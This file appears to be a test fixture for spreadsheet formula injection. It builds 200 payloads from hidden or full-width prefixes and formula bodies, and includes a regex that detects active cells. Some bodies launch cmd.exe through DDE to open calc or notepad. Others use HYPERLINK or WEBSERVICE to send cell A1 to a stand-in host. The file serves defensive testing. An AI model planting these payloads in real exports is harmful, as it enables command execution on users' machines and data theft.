const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  ' =',
  '\u00a0=',
  '\u202f+',
  '\ufeff=',
  '\u200b=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\n=',
  ' \t +',
  "'=",
  '"=',
  ';=',
  ',=',
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.com?x="&A1,"clic")',
  'SUM(1+1)*cmd|"/C calc"!A0',
  'IMPORTXML("https://example.com","//a")',
  'WEBSERVICE("https://example.com/"&A1)',
  'DDE("cmd";"/C calc";"!A0")',
  '2+5+cmd|" /C notepad"!A0',
  '10 gants par personne',
  'MSEXCEL|"\\..\\..\\..\\Windows\\System32\\cmd.exe"!A0',
];

/** Two hundred texts that a spreadsheet might compute, and what they are worth as text. */
export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap((start) =>
  BODIES.map((body) => start + body),
);

/** What a spreadsheet would take for a formula, whatever stands invisibly before it. */
export const ACTIVE_CELL = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
